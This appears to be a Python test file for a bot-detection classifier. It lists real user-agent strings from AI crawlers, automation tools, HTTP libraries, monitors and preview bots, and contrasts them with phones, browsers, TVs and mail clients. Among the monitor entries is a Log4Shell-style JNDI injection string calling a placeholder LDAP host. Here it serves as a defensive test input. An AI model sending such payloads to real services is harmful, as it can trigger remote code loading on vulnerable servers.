"""User agents of programs and of people: real ones of 2024 to 2026, and old ones."""

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA
from hypothesis import given
from hypothesis import strategies as st

from streams.enrichment.bot_detection import is_program, without_model
from streams.enrichment.bot_signatures import SKIPPED_PATTERNS
from streams.enrichment.user_agent import read_device
from tests.tables import table

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"
)
LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
WEBKIT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}) Chrome/131.0.0.0 Safari/537.36"
ANDROID = "Mozilla/5.0 (Linux; Android {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36"
WEBVIEW = (
    "Mozilla/5.0 (Linux; Android {}; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/141.0.7390.97 "
    "Mobile Safari/537.36"
)
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"

ASSISTANTS = [  # language models, and what they fetch for their users
    WEBKIT.format("GPTBot/1.2; +https://openai.com/gptbot"),
    WEBKIT.format("ChatGPT-User/1.0; +https://openai.com/bot"),
    WEBKIT.format("OAI-SearchBot/1.3; +https://openai.com/searchbot"),
    WEBKIT.format("ClaudeBot/1.0; +claudebot@anthropic.com"),
    WEBKIT.format("Claude-User/1.0; +Claude-User@anthropic.com"),
    WEBKIT.format("Claude-SearchBot/1.0; +https://www.anthropic.com"),
    WEBKIT.format("PerplexityBot/1.0; +https://perplexity.ai/perplexitybot"),
    WEBKIT.format("Perplexity-User/1.0; +https://perplexity.ai/perplexity-user"),
    WEBKIT.format("MistralAI-User/1.0; +https://docs.mistral.ai/robots"),
    WEBKIT.format("Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot"),
    WEBKIT.format("Amzn-User/0.1"),
    WEBKIT.format("bingbot/2.0; +http://www.bing.com/bingbot.htm"),
    WEBKIT.format("pageburst"),
    "Mozilla/5.0 (compatible; SomethingNew/1.0) Gecko/20100101 Firefox/115.0",
    f"{CHROME} (compatible; Manus-User/1.0)",
    f"{CHROME} (compatible; SomethingNew/1.0)",
    f"{CHROME}; compatible; SomethingNew/1.0",
    f"{LINUX}; Devin/1.0; +devin.ai",
    f"{LINUX} (compatible; Google-CloudVertexBot; +https://cloud.google.com/enterprise-search)",
    f"{LINUX} (compatible; Google-NotebookLM)",
    f"{LINUX} (compatible; GoogleAgent-Mariner; +https://developers.google.com/search)",
    "Mozilla/5.0 (compatible; DuckAssistBot/1.2; +http://duckduckgo.com/duckassistbot.html)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    "(compatible; Bytespider; spider-feedback@bytedance.com)",
    f"{MAC} Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    f"{MAC} Version/17.4 Safari/605.1.15 (Applebot-Extended/0.1)",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "meta-externalads",
    "meta-webindexer/1.1",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "cohere-ai",
    "anthropic-ai",
    "FirecrawlAgent",
]

BROWSERS_WITHOUT_PEOPLE = [
    CHROME.replace("Chrome/", "HeadlessChrome/"),
    f"{LINUX} Playwright/1.49",
    f"{LINUX} Cypress/13.6.0",
    f"{LINUX} Puppeteer",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 (webdriver)",
    f"{LINUX} Chrome-Lighthouse",
    "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
    "Mobile Safari/537.36 PTST/240101.1",
    ANDROID.format("8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0"),
    WEBVIEW.format("15; CPH2557 Build/AP3A.240617.008").replace("Version/4.0", "(compatible; ExampleBot/1.0)"),
]

LIBRARIES = [
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
    "python-requests/2.32.3",
    "python-httpx/0.27.2",
    "Python/3.12 aiohttp/3.10.5",
    "Python-urllib/3.12",
    "Scrapy/2.11.2 (+https://scrapy.org)",
    "Go-http-client/2.0",
    "node",
    "undici",
    "axios/1.7.7",
    "node-fetch",
    "okhttp/4.12.0",
    "Dart/3.5 (dart:io)",
    "Deno/2.1.4",
    "Bun/1.1.38",
    "Java/17.0.2",
    "Java-http-client/21.0.2",
    "Apache-HttpClient/4.5.13 (Java/17.0.5)",
    "libwww-perl/6.72",
    "GuzzleHttp/7",
    "Ruby",
    "curl/8.9.1",
    "Wget/1.24.5",
    "AHC/2.1",
    "k6/0.54.0 (https://k6.io/)",
    "PostmanRuntime/7.42.0",
    "insomnia/2023.5.8",
    "colly - https://github.com/gocolly/colly",
]

WATCHERS = [
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Better Uptime Bot Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "StatusCake_Pagespeed_Indev",
    "Datadog/Synthetics",
    f"{CHROME} (Checkly, https://www.checklyhq.com)",
    "kube-probe/1.30",
    "Amazon-Route53-Health-Check-Service (ref 1234; report http://amzn.to/1vsZADi)",
    "Amazon CloudFront",
    f"{CHROME} CloudflareObservatory/1.0",
    f"{LINUX} (hello@survey.example)",
    f"{CHROME} (https://survey.example/about)",
    "${jndi:ldap://x.example/a}",
    "{{.custom_user_agent}}",
]

PREVIEWS = [
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Slack-ImgProxy (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.24.17.80 A",
    "TelegramBot (like TwitterBot)",
    "Twitterbot/1.0",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    f"{CHROME} SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
    f"{MAC} Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",  # iMessage
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Pinterest/0.2 (+https://www.pinterest.com/bot.html)Mozilla/5.0 (compatible; Pinterestbot/1.0)",
    "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)",
    "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots",
    "ViberUrlDownloader",
    "Iframely/1.3.1 (+https://iframely.com/docs/about)",
]

FOR_SKIPPED_PATTERNS = [
    "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    "Mozilla/5.0 (compatible; RankSonicSiteAuditor/1.0; +https://ranksonic.com/ranksonic_sab.html)",
    "008/0.83 (http://www.advancedwebranking.com)",
    "gotosocial/0.19.2 (+https://social.example)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
]


@table(
    "agent",
    [*ASSISTANTS, *BROWSERS_WITHOUT_PEOPLE, *LIBRARIES, *WATCHERS, *PREVIEWS, *FOR_SKIPPED_PATTERNS],
)
def test_a_program_is_recognised(agent: str) -> None:
    assert read_device(agent).bot


TELEPHONES = [
    ANDROID.format("13; CUBOT NOTE 21"),
    ANDROID.format("7.0; M bot 54"),
    ANDROID.format("6.0; VR BOT 552 PLUS"),
    ANDROID.format("8.1.0; XBot_Senior Build/O11019"),
    ANDROID.format("13; Spider 8"),
    ANDROID.format("10; Butterfly"),
    ANDROID.format("7.0; FEVER"),
    WEBVIEW.format("5.1; FEVER Build/LMY47D"),
    WEBVIEW.format("15; RMX5101 Build/AP3A.240617.008"),
    "Mozilla/5.0 (Linux; U; Android 2.3;en-us; ViewSonic-ViewPad7e build/ERE27) AppleWebKit/533.1 (KHTML, like Gecko) "
    "Version/4.0 Mobile Safari/533.1",
]

IN_APPS = [
    f"{IPHONE} Mobile/15E148 Instagram 361.0.0.35.82 (iPhone15,2; iOS 18_5; en_US; en; scale=3.00; 1179x2556)",
    f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/450.0.0.0.0]",
    f"{IPHONE} Mobile/15E148 [LinkedInApp]/9.30",
    f"{IPHONE} GSA/348.0.6 Mobile/15E148 Safari/604.1",
    f"{WEBVIEW.format('14; SM-S918B Build/UP1A.231005.007')} [FB_IAB/FB4A;FBAV/480.0.0.0.0;]",
    f"{WEBVIEW.format('16; SM-F966N; BP2A.250605.031.A3')} Viber/27.4.0.0",
    f"{WEBVIEW.format('13; Pixel 7 Build/TQ3A')} musical_ly_2023 BytedanceWebview/d8a21c6",
    f"{WEBVIEW.format('10; ZTE A2020 SP Build/QKQ1.200913.002')} AWP/2.0 SogouMSE,SogouMobileBrowser/6.5.11",
    f"{WEBVIEW.format('13; Pixel 7 Build/TQ3A')} GSA/15.10",
    f"{CHROME} Slack/4.40",
    "MyShop/3.1 (Android 15; Pixel 9) okhttp/4.12.0",
    "MyShop/3.1 (com.example.shop; build:7; iOS 18.5.0) Alamofire/5.9.1",
    "MyShop/7 CFNetwork/1568.100.1 Darwin/24.5.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A)",
]

BROWSERS = [
    CHROME,
    LINUX,
    f"{CHROME} Edg/134.0.0.0",
    f"{CHROME} OPR/117.0.0.0",
    f"{CHROME} Vivaldi/7.1",
    f"{CHROME} DuckDuckGo/134",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:136.0) Gecko/20100101 Firefox/136.0",
    f"{MAC} Version/18.3 Safari/605.1.15",
    f"{IPHONE} Version/18.5 Mobile/15E148 Safari/604.1",
    f"{IPHONE} CriOS/134.0.6998.99 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 "
    "Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR 1.1)",
    "Treo800w/v0100 Mozilla/4.0 (compatible; MSIE 4.01; Windows CE, PPC; 320x320) (compatible; MSIE 6.0; Windows CE)",
    "Mozilla/5.0 (compatible; Konqueror/3.4; CYGWIN_NT-5.1) KHTML/3.4.89 (like Gecko)",
    "Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)",
]

SCREENS = [
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 "
    "LG Browser/8.00.00(LGE; 50UQ75006LF; 03.30.60; 1; DTV_W22M); webOS.TV-2022; LG NetCast.TV-2013 Compatible (LGE)",
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 "
    "TV Safari/537.36",
    "Mozilla/5.0(compatible; U; InfiNet 0.1; Viera) AppleWebKit/420+ (KHTML, like Gecko)(avdn/Panasonic.tv.high.2014)",
    "HbbTV/1.1.1 (;;;;) Mozilla/5.0 (compatible; ANTGalio/3.0.2.1.22.43.08; Linux2.6.18-7.1/7405d0-smp)",
    "BrightSign/6.0.13 (XD1132) Mozilla/5.0 (compatible; Linux mips) AppleWebKit/537.4 (KHTML, like Gecko) "
    "Chromium/18.0.1025.168 Chrome/18.0.1025.168 Safari/537.4",
    "Mozilla/5.0 (PlayStation; PlayStation 5/9.60) AppleWebKit/605.1.15 (KHTML, like Gecko)",
]

MAIL_READERS = [
    "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
    "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html",
    "Mozilla/5.0 SeznamEmailProxy/2.0.174",
    f"{CHROME} (via secureurl.fwdcdn.com - mail.ukr.net proxy)",
    "Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)",
    "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; Microsoft Outlook 16.0.5161; "
    "ms-office; MSOffice 16)",
    "Outlook-iOS/723.4027091.prod.iphone (4.28.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.9.0",
    MAC,  # Apple Mail without its privacy protection
    f"{IPHONE} Mobile/15E148",
]


@table("agent", [*TELEPHONES, *IN_APPS, *BROWSERS, *SCREENS, *MAIL_READERS])
def test_a_person_is_no_program(agent: str) -> None:
    assert not read_device(agent).bot


MODELS = [
    (ANDROID.format("13; Spider 8"), ANDROID.format("13; Spider 8").replace("Android 13; Spider 8", "android")),
    ("a (Linux; U; Android 4.4.2; de-de; X bot Build/KOT49H) b", "a (Linux; U; android) b"),
    ("a (Linux; Android 15; X Build/AP3A.240617.008; wv) b", "a (Linux; android; wv) b"),
    ("a (Linux; Android 8.0; Pixel 2; ExampleBot/1.0) b", "a (Linux; android; ExampleBot/1.0) b"),
    (CHROME, CHROME),
    ("", ""),
]


@pytest.mark.parametrize(("agent", "rest"), MODELS)
def test_the_name_of_a_telephone_is_left_out(agent: str, rest: str) -> None:
    assert without_model(agent) == rest


@pytest.mark.parametrize("pattern", sorted(SKIPPED_PATTERNS))
def test_every_pattern_left_out_is_one_of_the_library(pattern: str) -> None:
    assert pattern in {entry["pattern"] for entry in CRAWLER_USER_AGENTS_DATA}


@given(
    st.text(max_size=300) | st.text("(;compatible mozilla/5.0@-.user{$:/)", max_size=300), st.booleans(), st.booleans()
)
def test_any_text_gives_an_answer(agent: str, has_system: bool, has_browser: bool) -> None:
    text = agent.encode("utf-8", "replace").decode()
    assert is_program(text, has_system=has_system, has_browser=has_browser) in (True, False)
